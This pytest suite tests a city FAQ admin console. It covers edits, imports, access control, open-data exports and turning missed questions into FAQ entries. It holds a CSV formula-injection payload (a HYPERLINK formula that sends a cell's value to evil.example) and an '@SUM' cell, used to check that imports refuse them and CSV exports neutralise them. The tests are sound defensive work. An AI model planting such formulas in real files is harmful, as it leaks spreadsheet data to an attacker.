"""The FAQ in the admin console and in the open data, over real HTTP on the admin test server:
list with freshness, one entry edited through the catalog checker (comments kept, versioned,
audited; problems named by field), an import previewed then applied (a Shift_JIS CSV with
unfamiliar columns; formula cells refused), /opendata/faq.json and faq.csv public, and every CSV
cell that a spreadsheet would run as a formula written with a leading apostrophe."""
from __future__ import annotations

import base64
import csv
import io
import time
import uuid
from pathlib import Path
from typing import Iterator

import httpx
import pytest

from tests.admin.conftest import console_login
from tests.handoff.conftest import login

TAG = uuid.uuid4().hex[:6]
CATEGORY = f"madotest{TAG}"
OLD, FRESH, EVIL = f"madotest_old_{TAG}", f"madotest_fresh_{TAG}", f"madotest_evil_{TAG}"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
IN_YAML = "'" + HYPERLINK + "'"  # single-quoted YAML: the double quotes stay as they are
IN_CSV = '"' + HYPERLINK.replace('"', '""') + '"'  # a quoted CSV cell
FAQ_FILE = f"""\
# テスト用のFAQ（{TAG}）: コメントは保存しても残る
category: {{ja: テスト{TAG}, en: Test {TAG}, easy: "テスト{TAG}"}}
entries:
  - id: {OLD}   # 古い回答
    section: shimin
    question:
      ja: テスト{TAG}の古い質問ですか。
    answer:
      ja: テスト{TAG}の古い回答です。（サンプル）
    variants:
      ja: [テスト{TAG} ふるい]
    url: https://www.city.sample.example/faq/{TAG}/old.html
    updated: 2024-01-15

  - id: {FRESH}
    section: shimin
    question: {{ja: テスト{TAG}の新しい質問ですか。}}
    answer: {{ja: テスト{TAG}の新しい回答です。（サンプル）}}
    url: https://www.city.sample.example/faq/{TAG}/fresh.html
    updated: 2026-10-01

  - id: {EVIL}
    section: shimin
    question: {{ja: {IN_YAML}}}
    answer: {{ja: "@SUM(1+1) テスト{TAG}"}}
    url: https://www.city.sample.example/faq/{TAG}/evil.html
    updated: 2026-10-01
"""


@pytest.fixture(scope="module")
def faq_file(admin_server) -> Iterator[Path]:
    path = admin_server.catalog_dir / "faq" / f"{CATEGORY}.yml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(FAQ_FILE, encoding="utf-8")
    yield path
    path.unlink()
    imported = admin_server.catalog_dir / "faq" / f"madoimport{TAG}.yml"
    if imported.exists():
        imported.unlink()


def test_the_list_shows_every_category_with_freshness(admin, faq_file):
    reply = admin.get("/faq")
    assert reply.status_code == 200, reply.text
    data = reply.json()
    assert data["today"] == "2026-11-14" and data["stale_after_days"] == 365
    [ours] = [c for c in data["categories"] if c["id"] == CATEGORY]
    rows = {e["id"]: e for e in ours["entries"]}
    assert ours["title"] == f"テスト{TAG}" and list(rows) == [OLD, FRESH, EVIL]
    assert rows[OLD]["stale"] is True and rows[OLD]["days_old"] > 365
    assert rows[FRESH]["stale"] is False and rows[FRESH]["section_name"] == "市民課"
    assert data["sections"]["shimin"] == "市民課"


def test_an_entry_is_edited_through_the_checker_with_comments_kept(admin_server, admin, admin_accounts, faq_file):
    form = admin.get(f"/faq/{OLD}")
    assert form.status_code == 200, form.text
    body = form.json()
    assert body["path"] == f"faq/{CATEGORY}.yml" and body["data"]["variants"]["ja"] == [f"テスト{TAG} ふるい"]
    data = body["data"]
    data["answer"]["ja"] = f"テスト{TAG}の新しくした回答です。（サンプル）"
    data["answer"]["en"] = "The updated answer (sample)."
    data["variants"]["ja"].append(f"テスト{TAG} あたらしい")
    data["updated"] = "2026-11-01"
    saved = admin.put(f"/faq/{OLD}", {"data": data, "version": body["version"]})
    assert saved.status_code == 200, saved.text
    text = faq_file.read_text(encoding="utf-8")
    assert f"テスト{TAG}の新しくした回答です。（サンプル）" in text and "en: The updated answer (sample)." in text
    assert f"  - id: {OLD}   # 古い回答\n" in text and text.startswith(f"# テスト用のFAQ（{TAG}）")
    assert f"ja: [テスト{TAG} ふるい, テスト{TAG} あたらしい]" in text and "updated: 2026-11-01" in text
    assert FAQ_FILE.split(f"  - id: {FRESH}")[1] == text.split(f"  - id: {FRESH}")[1]  # the others untouched
    listed = {e["id"]: e for c in admin.get("/faq").json()["categories"] for e in c["entries"]}
    assert listed[OLD]["stale"] is False
    audit = login(admin_server, admin_accounts["admin"]).get("/audit").json()["entries"]
    assert any(e["action"] == "faq.save" and e["actor"] == admin.username and e["detail"]["entry"] == OLD
               for e in audit)
    assert any(e["action"] == "faq.read" and e["detail"]["entry"] == OLD for e in audit)

    # The version it was made on is gone now: a second save on it is refused.
    stale = admin.put(f"/faq/{OLD}", {"data": data, "version": body["version"]})
    assert stale.status_code == 409 and stale.json()["error"] == "stale"


def test_an_invalid_edit_names_its_field_and_writes_nothing(admin, faq_file):
    body = admin.get(f"/faq/{FRESH}").json()
    before = faq_file.read_bytes()
    data = dict(body["data"], url="ftp://www.city.sample.example/x", updated="2999-01-01")
    refused = admin.put(f"/faq/{FRESH}", {"data": data, "version": body["version"]})
    assert refused.status_code == 422, refused.text
    fields = {p["field"]: p for p in refused.json()["problems"]}
    assert f"entries[1]({FRESH}).url" in fields and f"entries[1]({FRESH}).updated" in fields
    assert fields[f"entries[1]({FRESH}).url"]["file"] == f"faq/{CATEGORY}.yml"
    wrong = admin.put(f"/faq/{FRESH}", {"data": dict(body["data"], question="not an object"),
                                        "version": body["version"]})
    assert wrong.status_code == 422 and [p["field"] for p in wrong.json()["problems"]] == ["question"]
    wrong = admin.put(f"/faq/{FRESH}", {"data": dict(body["data"], variants={"ja": [1, 2]}),
                                        "version": body["version"]})
    assert wrong.status_code == 422 and [p["field"] for p in wrong.json()["problems"]] == ["variants.ja[0]"]
    assert admin.put(f"/faq/{FRESH}", {"data": body["data"]}).json()["field"] == "version"
    assert admin.get("/faq/no_such_entry").status_code == 404
    assert faq_file.read_bytes() == before


def test_only_an_admin_with_the_csrf_token_writes(admin_server, admin_accounts, admin, faq_file):
    body = admin.get(f"/faq/{FRESH}").json()
    assert admin.send("PUT", f"/faq/{FRESH}", {"data": body["data"], "version": body["version"]},
                      csrf=False).status_code == 403
    staff = console_login(admin_server, admin_accounts["staff"])
    assert staff.get("/faq").status_code == 403
    assert httpx.get(f"{admin_server.base_url}/admin/api/faq", timeout=30).status_code == 401


def upload(data: bytes, name: str, **extra) -> dict:
    return {"filename": name, "content_base64": base64.b64encode(data).decode(), **extra}


def test_an_import_is_previewed_then_applied(admin_server, admin, admin_accounts, faq_file):
    csv_text = ("問い,答え,所管,掲載ページ,最終更新\r\n"
                f"テスト{TAG}の取り込み質問ですか。,取り込んだ回答です。（サンプル）,市民課,"
                f"https://www.city.sample.example/faq/{TAG}/imported.html,令和8年4月1日\r\n")
    data = csv_text.encode("cp932")
    mapping = {"question": "問い", "answer": "答え", "section": "所管", "url": "掲載ページ", "updated": "最終更新"}
    target = admin_server.catalog_dir / "faq" / f"madoimport{TAG}.yml"
    preview = admin.post("/faq/import/preview", upload(data, "city.csv", mapping=mapping, category=f"madoimport{TAG}"))
    assert preview.status_code == 200, preview.text
    plan = preview.json()
    assert plan["counts"] == {"new": 1, "changed": 0, "unchanged": 0} and plan["problems"] == []
    assert plan["files"] == [f"faq/madoimport{TAG}.yml"] and not target.exists()
    assert any("1 new, 0 changed, 0 unchanged" in line for line in plan["summary"])

    applied = admin.post("/faq/import", upload(data, "city.csv", mapping=mapping, category=f"madoimport{TAG}"))
    assert applied.status_code == 200, applied.text
    assert "取り込んだ回答です。（サンプル）" in target.read_text(encoding="utf-8")
    listed = {c["id"]: c for c in admin.get("/faq").json()["categories"]}
    assert [e["updated"] for e in listed[f"madoimport{TAG}"]["entries"]] == ["2026-04-01"]
    again = admin.post("/faq/import/preview", upload(data, "city.csv", mapping=mapping, category=f"madoimport{TAG}"))
    assert again.json()["counts"] == {"new": 0, "changed": 0, "unchanged": 1} and again.json()["files"] == []
    audit = login(admin_server, admin_accounts["admin"]).get("/audit").json()["entries"]
    assert any(e["action"] == "faq.import" and e["detail"]["new"] == 1 for e in audit)


def test_a_bad_upload_is_refused_with_row_and_column(admin, faq_file):
    evil = f"質問,回答,担当課\nテスト{TAG}?,{IN_CSV},市民課\n"
    refused = admin.post("/faq/import/preview", upload(evil.encode(), "evil.csv", category=CATEGORY))
    assert refused.status_code == 400 and refused.json()["error"] == "import_refused"
    assert "row 2, column '回答': starts with '='" in refused.json()["message"]
    missing = admin.post("/faq/import", upload("質問,回答\nQ,A\n".encode(), "x.csv", mapping={"url": "リンク"}))
    assert missing.status_code == 400
    assert "column 'リンク' (mapped to url) is not in the file" in missing.json()["message"]
    assert admin.post("/faq/import/preview", {"filename": "x.csv", "content_base64": "%%%"}).json()["field"] \
        == "content_base64"
    assert admin.post("/faq/import/preview", upload(b"a,b\n", "x.csv", mapping={"colour": "a"})).json()["field"] \
        == "mapping.colour"


def test_the_faq_is_open_data_and_csv_cells_cannot_run_as_formulas(admin_server, faq_file):
    document = httpx.get(f"{admin_server.base_url}/opendata/faq.json", timeout=60)
    assert document.status_code == 200, document.text
    faq = document.json()
    assert faq["format"] == "madoguchi-faq" and faq["license"]["id"] == "CC-BY-4.0"
    entries = {e["id"]: e for e in faq["entries"]}
    assert entries[FRESH]["url"].endswith("/fresh.html") and entries[FRESH]["section_name"]["ja"] == "市民課"
    assert entries[EVIL]["question"]["ja"] == HYPERLINK  # JSON is data, not a spreadsheet: kept as is

    reply = httpx.get(f"{admin_server.base_url}/opendata/faq.csv", timeout=60)
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/csv")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(reply.content.decode("utf-8")[1:]))}
    assert rows[EVIL]["question"] == "'" + HYPERLINK and rows[EVIL]["answer"].startswith("'@SUM")
    assert rows[FRESH]["question"] == f"テスト{TAG}の新しい質問ですか。"

    # A procedure's title that is a formula comes out of procedures.csv as text.
    path = admin_server.procedure_file("seal_registration")
    original = path.read_text(encoding="utf-8")
    lines = original.splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.startswith("title:"))
    at = next(i for i in range(at + 1, len(lines)) if lines[i].startswith("  ja: "))
    title_ja = lines[at][len("  ja: "):].strip()
    lines[at] = f"  ja: '{HYPERLINK}'\n"
    path.write_text("".join(lines), encoding="utf-8")
    try:
        deadline_rows = []
        for _ in range(30):  # the export is rebuilt when a file changes
            text = httpx.get(f"{admin_server.base_url}/opendata/procedures.csv", timeout=60).content.decode("utf-8")
            deadline_rows = [r for r in csv.DictReader(io.StringIO(text[1:]))
                             if r["id"] == "seal_registration" and r["language"] == "ja"]
            if deadline_rows and deadline_rows[0]["title"] != title_ja:
                break
        assert deadline_rows[0]["title"] == "'" + HYPERLINK
    finally:
        path.write_text(original, encoding="utf-8")


def test_a_missed_question_becomes_an_faq_entry_in_one_step(admin_server, admin, admin_accounts, faq_file):
    """The inbox's question, the administrator's answer, one POST: the entry is written (checked,
    versioned, audited), the question leaves the inbox, and the next resident who asks gets the
    city's answer with its source."""
    asked = f"ぽにょぽにょ{TAG} もふもふ"
    admin_server.say(f"faqnew-{uuid.uuid4().hex[:8]}", asked)
    groups = admin.get("/missed").json()["groups"]
    group = next((g for g in groups if any(t["text"] == asked for t in g["texts"])), None)
    assert group is not None, groups
    new_id = f"madotest_new_{TAG}"
    answer = f"テスト{TAG}のもふもふは、市民課でお預かりしています。（サンプル）"
    data = {"question": {"ja": asked, "en": "", "easy": ""}, "answer": {"ja": answer, "en": "", "easy": ""},
            "variants": {"ja": [f"もふもふ{TAG} どこ"], "en": []}, "section": "shimin",
            "url": f"https://www.city.sample.example/faq/{TAG}/new.html", "updated": "2026-11-14", "procedure": None}
    before = faq_file.read_text(encoding="utf-8")

    # Refused with the field named, nothing written: a taken id, an unknown category, wrong types.
    for body, field in (({"category": CATEGORY, "id": FRESH, "data": data}, "id"),
                        ({"category": "no_such_category", "id": new_id, "data": data}, "category"),
                        ({"category": CATEGORY, "id": 7, "data": data}, "id"),
                        ({"category": CATEGORY, "id": new_id, "data": data, "missed": asked}, "missed"),
                        ({"category": CATEGORY, "id": new_id, "data": dict(data, variants={"ja": "x"})}, "variants.ja"),
                        ({"category": CATEGORY, "id": new_id, "data": dict(data, url="")},
                         f"entries[3]({new_id}).url")):
        refused = admin.post("/faq", body)
        assert refused.status_code == 422, (field, refused.text)
        assert field in [p["field"] for p in refused.json()["problems"]], refused.json()
        assert faq_file.read_text(encoding="utf-8") == before

    made = admin.post("/faq", {"category": CATEGORY, "id": new_id, "data": data, "missed": [asked]})
    assert made.status_code == 201, made.text
    assert made.json()["missed_resolved"] == 1 and made.json()["path"] == f"faq/{CATEGORY}.yml"
    text = faq_file.read_text(encoding="utf-8")
    assert text.startswith(before.rstrip("\n")) and f"  - id: {new_id}\n    section: shimin\n" in text
    assert f'      ja: "{answer}"' in text and f'        - "もふもふ{TAG} どこ"' in text
    entry = admin.get(f"/faq/{new_id}").json()
    assert entry["data"]["answer"]["ja"] == answer and entry["data"]["updated"] == "2026-11-14"
    assert not any(t["text"] == asked for g in admin.get("/missed").json()["groups"] for t in g["texts"])
    audit = login(admin_server, admin_accounts["admin"]).get("/audit").json()["entries"]
    assert any(e["action"] == "faq.create" and e["detail"]["entry"] == new_id and e["detail"]["from_missed"] == 1
               for e in audit)

    source = {}
    for _ in range(40):  # the server reads the edited catalog and rebuilds its FAQ index in the background
        reply = admin_server.say(f"faqnew-{uuid.uuid4().hex[:8]}", asked)
        source = next((m["custom"]["source"] for m in reply if (m.get("custom") or {}).get("source")), {})
        if source.get("source") == "faq":
            break
        time.sleep(0.5)
    assert source.get("source") == "faq" and source.get("id") == new_id, source
    assert any(answer in (m.get("text") or "") for m in reply)
